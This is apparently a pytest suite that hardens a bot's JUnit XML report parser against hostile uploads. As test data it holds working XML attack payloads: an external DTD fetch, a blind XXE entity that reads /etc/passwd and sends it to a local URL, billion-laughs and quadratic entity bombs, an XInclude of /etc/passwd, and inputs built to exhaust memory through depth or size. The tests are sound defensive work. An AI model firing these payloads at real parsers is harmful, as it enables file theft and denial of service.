"""Hostile JUnit reports (they come from the pull request under test): entity tricks,
nesting and width meant to exhaust memory, a 1 GB file, a stream that never ends, junk.
Each is refused with a sentence naming the file and what to do, or read within bounds."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import threading
import tracemalloc
from pathlib import Path

import pytest

from bot.core.errors import ReportError
from bot.stages.ingest.junit import parse_report_bytes, parse_report_file
from bot.stages.ingest.junit_limits import DEFAULT_LIMITS, ReportLimits

ROOT = Path(__file__).resolve().parents[2]
CASE = b"<testcase classname='c' name='t'><failure message='boom'>trace</failure></testcase>"


def refused(data: bytes) -> str:
    with pytest.raises(ReportError) as caught:
        parse_report_bytes(data, source="upload.xml")
    assert str(caught.value).startswith("upload.xml: ")
    return caught.value.problem


@pytest.mark.parametrize(
    "document",
    [
        # external DTD, fetched by a parser that resolves it
        b'<!DOCTYPE testsuite SYSTEM "http://127.0.0.1:9/evil.dtd"><testsuite/>',
        # parameter entity pulling a local file into an external URL (blind XXE)
        b'<!DOCTYPE t [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        b'<!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:9/?%f;\'>">%e;]><testsuite/>',
        # quadratic blowup: one big entity referenced many times
        b'<!DOCTYPE t [<!ENTITY a "' + b"x" * 10_000 + b'">]><testsuite name="&a;&a;&a;"/>',
        # billion laughs, ten levels
        b'<!DOCTYPE t [<!ENTITY l0 "ha">'
        + b"".join(b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;">' % (i, i - 1, i - 1, i - 1, i - 1)
                   for i in range(1, 10))
        + b"]><testsuite name='&l9;'/>",
    ],
    ids=["external-dtd", "parameter-entity", "quadratic-blowup", "billion-laughs"],
)
def test_every_dtd_trick_is_refused_before_anything_is_expanded(document: bytes) -> None:
    tracemalloc.start()
    try:
        problem = refused(document)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "declares a DTD" in problem and "Regenerate the report" in problem
    assert peak < 2 * 1024 * 1024
    assert "root:" not in problem


def test_xinclude_is_left_as_an_unread_element() -> None:
    document = (
        b"<testsuite xmlns:xi='http://www.w3.org/2001/XInclude'>"
        b"<testcase classname='c' name='t'><failure message='m'>"
        b"<xi:include href='/etc/passwd' parse='text'/></failure></testcase></testsuite>"
    )
    (case,) = parse_report_bytes(document, source="r").cases
    assert case.message == "m" and "root:" not in case.traceback


def test_deep_nesting_is_refused_at_the_depth_limit() -> None:
    depth = 1_000_000
    document = b"<testsuite>" + b"<a>" * depth + b"</a>" * depth + b"</testsuite>"
    tracemalloc.start()
    try:
        problem = refused(document)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"nests elements more than {DEFAULT_LIMITS.max_depth} deep" in problem
    assert peak < 8 * 1024 * 1024, "refused early, not after building a million elements"


def test_a_case_stuffed_with_elements_is_refused() -> None:
    document = b"<testsuite><testcase name='t'>" + b"<p/>" * 50_000 + b"</testcase></testsuite>"
    problem = refused(document)
    assert f"more than {DEFAULT_LIMITS.max_held_elements} elements inside one" in problem


def test_many_unknown_elements_between_cases_are_dropped_as_read() -> None:
    junk = b"<junk a='1'><x/></junk>" * 150_000  # 3.4 MB of elements no report uses
    document = b"<testsuites><testsuite>" + CASE + junk + CASE + b"</testsuite></testsuites>"
    tracemalloc.start()
    try:
        report = parse_report_bytes(document, source="r")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [case.message for case in report.cases] == ["boom", "boom"]
    # 300,000 elements held would take over 40 MB
    assert peak < 8 * 1024 * 1024


def test_a_1_gb_report_is_refused_from_its_size_alone(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as sparse:  # 1 GiB on paper, no disk used
        sparse.truncate(1 << 30)
    with pytest.raises(ReportError) as caught:
        parse_report_file(path)
    limit = DEFAULT_LIMITS.max_bytes
    assert f"is {1 << 30} bytes, over the {limit}-byte limit" in str(caught.value)


def test_a_stream_without_a_size_is_cut_at_the_limit(tmp_path: Path) -> None:
    """A FIFO has no size to check up front: the bytes are counted as they are read."""
    fifo = tmp_path / "report.xml"
    os.mkfifo(fifo)
    sent: list[int] = []

    def endless_writer() -> None:
        chunk = b"x" * 65536
        total = 0
        try:
            with fifo.open("wb") as sink:
                sink.write(b"<testsuite><testcase name='t'><system-out>")
                while total < 1 << 30:  # would be 1 GiB
                    sink.write(chunk)
                    total += len(chunk)
        except BrokenPipeError:
            pass
        sent.append(total)

    writer = threading.Thread(target=endless_writer, daemon=True)
    writer.start()
    with pytest.raises(ReportError, match=r"over the 8388608-byte limit"):
        parse_report_file(fifo, limits=ReportLimits(max_bytes=8 << 20))
    writer.join(timeout=30)
    assert sent and sent[0] < 16 << 20, "the reader stopped soon after the limit"


PEAK_RSS_SCRIPT = textwrap.dedent(
    """
    import resource, sys, time
    from pathlib import Path
    from bot.stages.ingest.junit import parse_report_file
    from bot.stages.ingest.junit_limits import ReportLimits

    path, megabytes = Path(sys.argv[1]), int(sys.argv[2])
    output = "log line with some words in it\\n" * 8_000  # ~250 kB per case
    case = (
        "<testcase classname='pkg.mod' name='t{i}'><failure message='boom'>Traceback\\n"
        "  File \\"pkg/mod.py\\", line 3, in f\\nValueError: boom</failure>"
        "<system-out>{output}</system-out></testcase>"
    )
    with path.open("w") as sink:
        sink.write("<testsuites><testsuite name='s'>")
        written, i = 0, 0
        while written < megabytes << 20:
            written += sink.write(case.format(i=i, output=output))
            i += 1
        sink.write("</testsuite></testsuites>")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    report = parse_report_file(path, limits=ReportLimits(max_bytes=1 << 30))
    seconds = time.monotonic() - started
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(len(report.cases), path.stat().st_size, before, after, round(seconds, 2))
    """
)


def peak_rss_of_parsing(tmp_path: Path, megabytes: int) -> tuple[int, int, int, int, float]:
    """Cases, file bytes, max RSS (kB) before and after parsing, seconds: in a fresh process."""
    done = subprocess.run(
        [sys.executable, "-c", PEAK_RSS_SCRIPT, str(tmp_path / "big.xml"), str(megabytes)],
        capture_output=True, text=True, check=True, cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    cases, size, before, after, seconds = done.stdout.split()
    return int(cases), int(size), int(before), int(after), float(seconds)


def test_a_big_report_is_parsed_in_bounded_memory(tmp_path: Path) -> None:
    cases, size, before, after, _ = peak_rss_of_parsing(tmp_path, 128)
    assert size >= 128 << 20 and cases >= 500
    # Each case's output is cut to its 64 kB tail: the cases kept take ~70 MB of text
    # whatever the file's size; the 128 MB document itself is never held.
    kept_text_kb = cases * (DEFAULT_LIMITS.max_output_chars + 300) // 1024
    assert after - before < kept_text_kb + 48 * 1024, (before, after, kept_text_kb)
